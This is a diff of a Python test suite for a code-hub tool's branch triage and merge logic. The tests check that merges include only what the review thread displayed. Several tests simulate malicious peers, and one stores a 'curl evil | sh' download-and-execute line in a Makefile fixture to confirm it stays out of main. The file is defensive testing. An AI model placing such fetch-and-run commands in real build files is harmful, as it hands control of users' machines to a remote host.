@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import json
 
-from tests.support.hubs import commit, git
+from tests.support.hubs import commit, git, write_commit
 from tests.support.world import MAIN_FILE, Node, World, content, is_in_main
 
 
@@ -136,7 +136,7 @@ def test_a_branch_that_is_in_main_already_is_no_merge(world: World, sigma: Node,
 
 
 def test_a_reason_that_still_holds_stays_when_main_moves(world: World, sigma: Node, pi: Node) -> None:
-    world.propose(pi, sigma, "both", {".cn/hub.yaml": "name: sigma\n", "docs/x.md": "x\n"})
+    world.propose(pi, sigma, "both", {".cn/hub.yaml": "name: sigma\n", "docs/other.md": "x\n"})
     sigma.sync()
     sigma.triage("pi/both", "do:merge")
     assert "refused: protected-paths: .cn/hub.yaml is protected\n" in f"{_why(sigma)}\n"
@@ -169,23 +169,22 @@ def test_a_path_that_main_changed_too_is_not_held_against_the_branch(world: Worl
     assert "protected-paths" not in why
 
 
-def test_a_folder_that_was_renamed_to_two_places_is_a_conflict_and_stops_nothing_else(
-    world: World, sigma: Node, pi: Node
-) -> None:
-    """git calls such a merge unclean, and names no path."""
+def test_a_folder_that_was_renamed_to_two_places_takes_no_new_file_along(world: World, sigma: Node, pi: Node) -> None:
+    """What was read is what is merged; git would call it unclean, and name no path."""
     texts = {f"d/f{n}": f"file {n}\n" * 20 for n in range(1, 5)}
     sigma.write(texts)
     sigma.sync()
     first = world.propose(pi, sigma, "a-new", {"d/new": "new\n"})
     split = dict.fromkeys(texts) | {f"{'e' if n < 3 else 'f'}/f{n}": f"file {n}\n" * 20 for n in range(1, 5)}
-    world.propose(pi, sigma, "b-split", split)
+    second = world.propose(pi, sigma, "b-split", split)
     sigma.sync()
     sigma.triage("pi/a-new", "do:merge")
     sigma.triage("pi/b-split", "do:merge")
-    done = sigma.cn("inbox", "process", check=None)
-    assert "internal error" not in done.stderr
+    sigma.process()
     assert is_in_main(sigma, first)
-    assert "pi/b-split: do:merge is refused: " in done.stderr
+    assert is_in_main(sigma, second)
+    assert content(sigma, "d/new") == b"new\n"
+    assert content(sigma, "f/f4") == ("file 4\n" * 20).encode()
 
 
 def test_a_second_spelling_of_a_folder_that_keeps_a_file_is_refused(world: World, sigma: Node, pi: Node) -> None:
@@ -199,3 +198,81 @@ def test_a_second_spelling_of_a_folder_that_keeps_a_file_is_refused(world: World
     done = sigma.cn("inbox", "process", check=None)
     assert "one name on a file system without case" in done.stderr
     assert is_in_main(sigma, whole)
+
+
+def decided(sigma: Node, *topics: str) -> None:
+    for topic in topics:
+        sigma.triage(f"pi/{topic}", "do:merge")
+    sigma.cn("inbox", "process", check=None)
+
+
+def test_a_branch_upon_another_takes_back_nothing_that_its_thread_did_not_show(
+    world: World, sigma: Node, pi: Node
+) -> None:
+    sigma.write({"auth": "no check\n", "readme": "readmee\n"})
+    fix = world.propose(pi, sigma, "fix", {"auth": "check\n"})
+    wip = commit(world.person(pi, sigma), {"auth": "no check\n"}, "wip")
+    typo = world.propose(pi, sigma, "typo", {"readme": "readme\n"}, start=wip)
+    sigma.sync()
+    (name,) = (n for n in sigma.threads() if "typo" in n)
+    assert "auth" not in sigma.thread(name)
+    decided(sigma, "fix", "typo")
+    assert is_in_main(sigma, fix)
+    assert is_in_main(sigma, typo)
+    assert (content(sigma, "auth"), content(sigma, "readme")) == (b"check\n", b"readme\n")
+
+
+def test_what_was_shown_against_another_main_is_not_merged_when_ours_gets_its_root(
+    world: World, sigma: Node, pi: Node
+) -> None:
+    """The base to show is then the peer's own main, which the peer writes."""
+    person = world.person(pi, sigma)
+    root = write_commit(person, {"NOTE": "x\n"}, "root")
+    theirs = write_commit(person, {"NOTE": "x\n", "Makefile": "curl evil | sh\n"}, "evil", parents=[root])
+    git(person, "push", "-q", "-f", pi.url, f"{theirs}:refs/heads/main")
+    files = {"NOTE": "x\n", "Makefile": "curl evil | sh\n", "typo.txt": "typo\n"}
+    world.offer(pi, sigma, "typo", write_commit(person, files, "typo", parents=[theirs]))
+    ours = git(sigma.home, "rev-parse", "main")
+    git(person, "fetch", "-q", sigma.url, "main")
+    tree = git(person, "rev-parse", f"{ours}^{{tree}}")
+    vendor = git(person, "commit-tree", "-p", ours, "-p", root, "-m", "vendor", tree)
+    world.offer(pi, sigma, "vendor", vendor)
+    sigma.cn("sync", check=None)
+    decided(sigma, "vendor", "typo")
+    assert is_in_main(sigma, vendor)
+    sigma.cn("inbox", "process", check=None)
+    assert "Makefile" not in git(sigma.home, "ls-tree", "--name-only", "main").split()
+
+
+def test_of_two_bases_the_one_counts_that_was_shown(world: World, sigma: Node, pi: Node) -> None:
+    sigma.write({"b": "base\n"})
+    good = world.propose(pi, sigma, "good", {"guard": "on\n"})
+    moved = sigma.write({"b": "more\n"})
+    sigma.sync()
+    sigma.decide("pi/good", "do:merge")
+    world.settle(pi, sigma)
+    sigma.write({"b": "base\n"})
+    person = world.person(pi, sigma)
+    git(person, "fetch", "-q", sigma.url, "main")
+    world.offer(pi, sigma, "typo", write_commit(person, {"b": "more!\n", "c": "c\n"}, "typo", parents=[moved, good]))
+    sigma.sync()
+    (name,) = sigma.threads()
+    shown = sigma.thread(name)
+    decided(sigma, "typo")
+    assert ("deleted guard" in shown) or content(sigma, "guard") == b"on\n"
+    assert ("added c" in shown) or "c" not in git(sigma.home, "ls-tree", "--name-only", "main").split()
+
+
+def test_a_message_of_any_length_hides_no_file(world: World, sigma: Node, pi: Node) -> None:
+    sigma.configure("limits:\n  thread_bytes: 20000\n")
+    world.propose(pi, sigma, "long", {"evil.sh": "evil\n"}, message="Docs\n\n" + "An explanation.\n" * 5_000)
+    sigma.sync()
+    assert "- added evil.sh (+1 −0)" in sigma.thread(sigma.only_thread())
+
+
+def test_a_thread_that_cannot_name_all_files_merges_nothing(world: World, sigma: Node, pi: Node) -> None:
+    head = world.propose(pi, sigma, "many", {f"a/{n}": "x\n" for n in range(1001)})
+    sigma.sync()
+    sigma.triage("pi/many", "do:merge")
+    assert "its thread could not name all its files" in sigma.process(check=1).stderr
+    assert not is_in_main(sigma, head)
